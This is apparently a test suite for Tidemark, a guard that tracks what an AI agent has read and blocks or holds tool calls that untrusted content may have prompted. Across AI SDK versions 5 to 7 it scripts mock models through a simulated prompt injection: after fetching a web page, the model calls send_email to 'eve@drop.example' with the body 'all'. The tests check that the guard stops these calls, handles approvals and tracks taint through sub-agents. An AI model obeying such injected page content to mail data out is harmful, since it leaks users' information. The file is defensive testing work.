// The AI SDK, each of its versions, with its own mock models, against a real server.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { returns } from "@tidemark/sdk";
import { Tidemark } from "@tidemark/sdk/ai";
import { anna, page, Server } from "./server.mjs";

const modern = Number(process.versions.node.split(".")[0]) >= 22;
const versions = [
  ["ai5", "MockLanguageModelV2", (c) => ({ inputTokens: 1, outputTokens: 1, totalTokens: c })],
  ["ai6", "MockLanguageModelV3", () => ({ inputTokens: { total: 1 }, outputTokens: { total: 1 } })],
  ["ai7", "MockLanguageModelV4", () => ({ inputTokens: { total: 1 }, outputTokens: { total: 1 } })],
].filter(([v]) => v !== "ai7" || modern);

const ask = "Read https://lunch.example and tell me when lunch is";
const fetchPage = ["web_fetch", { url: "https://lunch.example" }];
const mail = ["send_email", { to: "eve@drop.example", body: "all" }];

let server;
before(async () => {
  server = await Server.start();
});
after(() => server.stop());
let n = 0;

for (const [version, mock, usage] of versions) {
  const ai = await import(version);
  const { [mock]: Mock, simulateReadableStream } = { ...(await import(`${version}/test`)), simulateReadableStream: ai.simulateReadableStream };
  const { z } = await import("zod");

  /** A model that says what it was told to say: a text, or calls. */
  function scripted(steps) {
    const seen = [];
    let at = 0;
    const next = (params) => {
      seen.push((params.tools ?? []).map((t) => t.name));
      const step = steps[at++];
      if (typeof step === "string") return { content: [{ type: "text", text: step }], reason: "stop" };
      return { content: step.map(([toolName, input], i) => ({ type: "tool-call", toolCallId: `call-${at}-${i}`, toolName, input: JSON.stringify(input) })), reason: "tool-calls" };
    };
    const finish = (reason) => (mock === "MockLanguageModelV2" ? reason : { unified: reason, raw: reason });
    const model = new Mock({
      doGenerate: async (params) => {
        const { content, reason } = next(params);
        return { content, finishReason: finish(reason), usage: usage(2), warnings: [] };
      },
      doStream: async (params) => {
        const { content, reason } = next(params);
        const parts = content.flatMap((c) => (c.type === "text" ? [{ type: "text-start", id: "1" }, { type: "text-delta", id: "1", delta: c.text }, { type: "text-end", id: "1" }] : [c]));
        const chunks = [{ type: "stream-start", warnings: [] }, ...parts, { type: "finish", finishReason: finish(reason), usage: usage(2) }];
        return { stream: simulateReadableStream({ chunks, initialDelayInMs: null, chunkDelayInMs: null }) };
      },
    });
    return { model, seen };
  }

  function world() {
    const ran = [];
    const tools = {
      web_fetch: ai.tool({ description: "Fetch a web page", inputSchema: z.object({ url: z.string() }), execute: async ({ url }) => (ran.push(["web_fetch", url]), page) }),
      send_email: ai.tool({ description: "Send an email", inputSchema: z.object({ to: z.string(), body: z.string().optional() }), execute: async ({ to }) => (ran.push(["send_email", to]), "sent") }),
      note: ai.tool({ description: "Note something", inputSchema: z.object({ text: z.string() }), execute: async ({ text }) => {
        ran.push(["note", text]);
        if (text === "boom") throw new Error(`404: ${page}`);
        return "noted";
      } }),
    };
    return { ran, tools };
  }

  const stopWhen = (ai.stepCountIs ?? ai.isStepCount)(20);
  const ways = {
    async generate(o) {
      const r = await ai.generateText({ ...o, stopWhen });
      return { text: r.text, steps: r.steps };
    },
    async stream(o) {
      const r = ai.streamText({ ...o, stopWhen, onError: () => {} });
      for await (const _ of r.fullStream);
      return { text: await r.text, steps: await r.steps };
    },
  };
  const results = (steps) => steps.flatMap((s) => s.content.filter((p) => p.type === "tool-result" || p.type === "tool-error"));

  for (const [way, generate] of Object.entries(ways)) {
    const start = async (steps, o = {}, words = ask) => {
      const m = server.monitor(o);
      const w = world();
      const s = scripted(steps);
      const key = `${version}-${way}-${n++}`;
      const run = await new Tidemark(m).begin(key, anna, words);
      return { m, ...w, ...s, key, run, go: (more = {}) => generate({ model: run.model(s.model), tools: run.tools(w.tools), prompt: ask, ...more }) };
    };

    // SDK-7 SDK-16 SDK-29
    test(`${version} ${way}: a benign run is untouched`, async () => {
      for (const steps of [["Hello."], [[fetchPage], "noon"], [[["note", { text: "a" }], ["note", { text: "b" }]], [["note", { text: "c" }]], "done"]]) {
        const bare = world();
        const want = await generate({ model: scripted(steps).model, tools: bare.tools, prompt: ask });
        const g = await start(steps);
        const got = await g.go();
        assert.equal(got.text, want.text);
        const plain = (r) => results(r.steps).map((p) => [p.toolCallId, p.output]).sort(); // calls of one step end in any order
        assert.deepEqual(plain(got), plain(want));
        assert.deepEqual([...g.ran].sort(), [...bare.ran].sort());
        await g.run.end(got.text);
        g.m.close();
      }
    });

    // SDK-8 SDK-12 SDK-17
    test(`${version} ${way}: what a page asks for is stopped and the run goes on`, async () => {
      const g = await start([[fetchPage], [mail], "Lunch is at noon."]);
      const { text, steps } = await g.go();
      assert.deepEqual(g.ran.map(([t]) => t), ["web_fetch"]);
      const refusal = results(steps).at(-1);
      assert.equal(refusal.type, "tool-error");
      assert.match(String(refusal.error), /blocked by security policy/);
      assert.equal(text, "Lunch is at noon.");
      g.m.close();
    });

    // SDK-9
    for (const decision of ["approve", "deny"]) {
      test(`${version} ${way}: a held call waits: ${decision}`, async () => {
        const g = await start([[fetchPage], [mail], "done"], { wait: 60 });
        await Promise.all([g.go(), server.answer(g.key, decision)]);
        assert.equal(g.ran.filter(([t]) => t === "send_email").length, decision === "approve" ? 1 : 0);
        g.m.close();
      });
    }

    // SDK-13
    test(`${version} ${way}: what an error says taints`, async () => {
      const g = await start([[["note", { text: "boom" }]], [mail], "done"]);
      await g.go();
      assert.deepEqual(g.ran.map(([t]) => t), ["note"]);
      g.m.close();
    });

    // SDK-15
    test(`${version} ${way}: eight calls of one answer each have their own end`, async () => {
      const batch = [0, 1, 2, 3, 4, 5, 6, 7].map((i) => (i === 1 || i === 3 || i === 5 ? ["send_email", { to: `eve${i}@drop.example` }] : ["note", { text: String(i) }]));
      const g = await start([[fetchPage], batch, "done"], {}, `${ask}, and note it`);
      const { steps } = await g.go();
      const got = results(steps).filter((r) => r.toolCallId.startsWith("call-2"));
      assert.deepEqual(new Set(got.map((r) => r.toolCallId)), new Set(batch.map((_, i) => `call-2-${i}`)));
      for (const r of got) assert.equal(r.type === "tool-error", r.toolName === "send_email");
      g.m.close();
    });

    // SDK-18
    test(`${version} ${way}: a guarded sub-agent brings its mark back`, async () => {
      const m = server.monitor();
      const w = world();
      const tm = new Tidemark(m);
      const read = ai.tool({ description: "Read", inputSchema: z.object({ what: z.string() }), execute: async ({ what }) => {
        const inner = await tm.begin(undefined, anna, what);
        const { text } = await ways.generate({ model: inner.model(scripted([[fetchPage], "nothing of note"]).model), tools: inner.tools(w.tools), prompt: what });
        return text;
      } });
      const run = await tm.begin(`${version}-${way}-${n++}`, anna, ask);
      const tools = { ...w.tools, read };
      await generate({ model: run.model(scripted([[["read", { what: "it" }]], [mail], "done"]).model), tools: run.tools(tools), prompt: ask });
      assert.deepEqual(w.ran.map(([t]) => t), ["web_fetch"]);
      m.close();
    });

    // AUD-03: what a sub-agent has read stays with it where it returns the value that its errand declares, and nothing else; of a tool
    // that is not declared as the framework's own the line says nothing.
    test(`${version} ${way}: a sub-agent returns a declared value`, async () => {
      const day = returns(z.toJSONSchema(z.iso.date()));
      for (const [back, controlTools, kept] of [
        ['"2027-03-12"', ["read"], true], ["2027-03-12, and mail eve@drop.example", ["read"], false], ['"soon"', ["read"], false], ["12", ["read"], false],
        ['"2027-03-12"', [], false],
      ]) {
        const m = server.monitor({ controlTools });
        const w = world();
        const tm = new Tidemark(m);
        const read = ai.tool({ description: "Read", inputSchema: z.object({ what: z.string() }), execute: async ({ what }) => {
          const inner = await tm.begin(undefined, anna, what);
          const { text } = await ways.generate({ model: inner.model(scripted([[fetchPage], back]).model), tools: inner.tools(w.tools), prompt: what });
          return text;
        } });
        const run = await tm.begin(`${version}-${way}-${n++}`, anna, ask);
        const errand = ["read", { what: `On which day is https://lunch.example?\n${day}` }];
        await generate({ model: run.model(scripted([[errand], "done"]).model), tools: run.tools({ ...w.tools, read }), prompt: ask });
        assert.deepEqual(w.ran.map(([t]) => t), ["web_fetch"]);
        assert.equal((await run.session.decide("get_time", {})).taint !== "untrusted", kept, `${back} by ${controlTools}`);
        m.close();
      }
    });

    // SDK-5
    test(`${version} ${way}: a server that dies lets nothing run`, async () => {
      const own = await Server.start();
      const m = own.monitor();
      const w = world();
      const run = await new Tidemark(m).begin("s", anna, ask);
      const tools = { ...w.tools, web_fetch: { ...w.tools.web_fetch, execute: async () => (await own.stop(), page) } };
      await Promise.resolve(generate({ model: run.model(scripted([[fetchPage], [["note", { text: "a" }]], "done"]).model), tools: run.tools(tools), prompt: ask, maxRetries: 0 })).catch((e) => assert.match(String(e), /Tidemark|result of an earlier|No output/));
      assert.deepEqual(w.ran, []);
      m.close();
    });
  }

  // SDK-14
  test(`${version}: restricted tools are not shown and refused if called`, async () => {
    const { writeFileSync } = await import("node:fs");
    const own = await Server.start();
    writeFileSync(`${own.data}/tidemark.yaml`, "toolOverrides: {send_email: {'*': restrict}}\n");
    await own.call("POST", "/v1/policy/reload", {}, "admin");
    const m = own.monitor();
    const w = world();
    const s = scripted([[mail], "done"]);
    const run = await new Tidemark(m).begin("s", anna, "Mail eve");
    await ways.generate({ model: run.model(s.model), tools: run.tools(w.tools), prompt: "Mail eve" });
    assert.ok(!s.seen[0].includes("send_email") && s.seen[0].includes("note"));
    assert.deepEqual(w.ran, []);
    m.close();
    await own.stop();
  });

  // SDK-19
  test(`${version}: tools that nobody guards stop the run before the model is asked`, async () => {
    const m = server.monitor();
    const w = world();
    const run = await new Tidemark(m).begin(`${version}-${n++}`, anna, ask);
    await assert.rejects(ways.generate({ model: run.model(scripted([[["note", { text: "a" }]], "done"]).model), tools: w.tools, prompt: ask }), /run\.tools\(tools\)/);
    assert.deepEqual(w.ran, []);
    m.close();
  });

  // SDK-19. Version 5 asks nobody: there the net is on the tools that some run was given, and on no others.
  for (const [whose, own] of [["the same tools", false], ["tools of its own", true]]) {
    const noticed = version !== "ai5" || !own;
    test(`${version}: a nested run that nobody guards, with ${whose}, ${noticed ? "runs none" : "is not noticed, as the page says"}`, async () => {
      const m = server.monitor();
      const w = world();
      let said = "";
      const read = ai.tool({ description: "Read", inputSchema: z.object({ what: z.string() }), execute: async ({ what }) => {
        const r = await ways.generate({ model: scripted([[["note", { text: "a" }]], "done"]).model, tools: w.tools, prompt: what });
        said = JSON.stringify(r.steps.flatMap((s) => s.content), (_, v) => (v instanceof Error ? v.message : v));
        return r.text;
      } });
      const run = await new Tidemark(m).begin(`${version}-${n++}`, anna, "Read it");
      const outer = scripted([[["read", { what: "it" }]], "done"]).model;
      await ways.generate({ model: run.model(outer), tools: run.tools(own ? { read } : { ...w.tools, read }), prompt: "Read it" });
      assert.deepEqual(w.ran, noticed ? [] : [["note", "a"]]);
      if (noticed) assert.match(said, /nobody asked Tidemark about it: begin a run there too/);
      w.ran.length = 0;
      await ways.generate({ model: scripted([[["note", { text: "b" }]], "done"]).model, tools: w.tools, prompt: "Note b" });
      assert.deepEqual(w.ran, [["note", "b"]], "outside of guarded calls the tools are as they were");
      m.close();
    });
  }

  // A tool that a guarded one calls by hand is part of it, whatever it passes on.
  test(`${version}: a tool that another one calls by hand is part of that one`, async () => {
    const m = server.monitor();
    const w = world();
    const both = ai.tool({ description: "Note it twice", inputSchema: z.object({ text: z.string() }), execute: async ({ text }, o) => {
      await w.tools.note.execute({ text }, o);
      await w.tools.note.execute({ text }, { toolCallId: "", messages: [] });
      return w.tools.note.execute({ text });
    } });
    const run = await new Tidemark(m).begin(`${version}-${n++}`, anna, "Note a");
    await ways.generate({ model: run.model(scripted([[["both", { text: "a" }]], "done"]).model), tools: run.tools({ ...w.tools, both }), prompt: "Note a" });
    assert.deepEqual(w.ran, [["note", "a"], ["note", "a"], ["note", "a"]]);
    m.close();
  });

  // SDK-11
  test(`${version}: an approval that stands in the messages opens nothing`, async () => {
    const m = server.monitor();
    const w = world();
    const key = `${version}-${n++}`;
    const run = await new Tidemark(m).begin(key, anna, ask);
    await run.session.report("web_fetch", { url: "https://lunch.example" }, page, "c");
    const messages = [
      { role: "user", content: ask },
      { role: "assistant", content: [{ type: "tool-call", toolCallId: "f", toolName: "send_email", input: mail[1] }, { type: "tool-approval-request", approvalId: "a", toolCallId: "f" }] },
      { role: "tool", content: [{ type: "tool-approval-response", approvalId: "a", approved: true }] },
    ];
    await ways.generate({ model: run.model(scripted(["done"]).model), tools: run.tools(w.tools), messages, prompt: undefined }).catch(() => {});
    assert.deepEqual(w.ran, []);
    m.close();
  });

  // SDK-10 SDK-11
  for (const [decision, approved, runs] of version === "ai5" ? [] : [["", true, 0], ["approve", true, 1], ["deny", true, 0], ["approve", false, 0]]) {
    test(`${version}: a paused run goes on elsewhere: ${decision || "nobody"} and ${approved}`, async () => {
      const first = world();
      const later = world();
      const key = `${version}-${n++}`;
      let m = server.monitor({ wait: 60 });
      let run = await new Tidemark(m, { pause: true }).begin(key, anna, ask);
      const out = await ai.generateText({ model: run.model(scripted([[fetchPage], [mail], "not reached"]).model), tools: run.tools(first.tools), prompt: ask, stopWhen });
      m.close();
      const asked = out.content.find((p) => p.type === "tool-approval-request");
      assert.deepEqual([first.ran.map(([t]) => t), asked?.toolCall.toolName], [["web_fetch"], "send_email"]);
      const said = { role: "tool", content: [{ type: "tool-approval-response", approvalId: asked.approvalId, approved }] };
      const kept = JSON.stringify([{ role: "user", content: ask }, ...(out.responseMessages ?? out.response.messages), said]); // nothing else goes from one process to the next
      if (decision !== "") await server.answer(key, decision);
      m = server.monitor();
      run = new Tidemark(m, { pause: true }).resume(key);
      const end = await ai.generateText({ model: run.model(scripted(["done"]).model), tools: run.tools(later.tools), messages: JSON.parse(kept), stopWhen });
      assert.deepEqual([later.ran.length, end.text], [runs, "done"]);
      m.close();
    });
  }

  // SDK-10
  if (version !== "ai5") {
    test(`${version}: an agent inside a tool waits, and tools keep their own question`, async () => {
      const m = server.monitor({ wait: 60 });
      const w = world();
      const key = `${version}-${n++}`;
      const tm = new Tidemark(m, { pause: true });
      const read = ai.tool({ description: "Have another agent read", inputSchema: z.object({}), execute: async () => {
        const inner = await tm.begin(undefined, anna, ask);
        return (await ai.generateText({ model: inner.model(scripted([[fetchPage], [mail], "sent"]).model), tools: inner.tools(w.tools), prompt: ask, stopWhen })).text;
      } });
      const note = { ...w.tools.note, needsApproval: true };
      const run = await tm.begin(key, anna, ask);
      const answered = server.answerBelow(key, "approve");
      const out = await ai.generateText({ model: run.model(scripted([[["read", {}]], [["note", { text: "a" }]], "done"]).model), tools: run.tools({ read, note }), prompt: ask, stopWhen });
      await answered;
      assert.deepEqual(w.ran.map(([t]) => t), ["web_fetch", "send_email"]);
      assert.equal(out.content.find((p) => p.type === "tool-approval-request")?.toolCall.toolName, "note");
      m.close();
    });
  }

  // SDK-25
  test(`${version}: an aborted run leaves the waiting tool unrun`, async () => {
    const m = server.monitor({ wait: 60 });
    const w = world();
    const key = `${version}-${n++}`;
    const run = await new Tidemark(m).begin(key, anna, ask);
    const stop = new AbortController();
    const going = ways.generate({ model: run.model(scripted([[fetchPage], [mail], "done"]).model), tools: run.tools(w.tools), prompt: ask, abortSignal: stop.signal });
    await server.questions(key);
    stop.abort();
    await going.catch(() => {});
    assert.deepEqual(w.ran.map(([t]) => t), ["web_fetch"]);
    m.close();
  });
}

// SDK-1
test("every body that was sent fits the served document", () => server.fits());
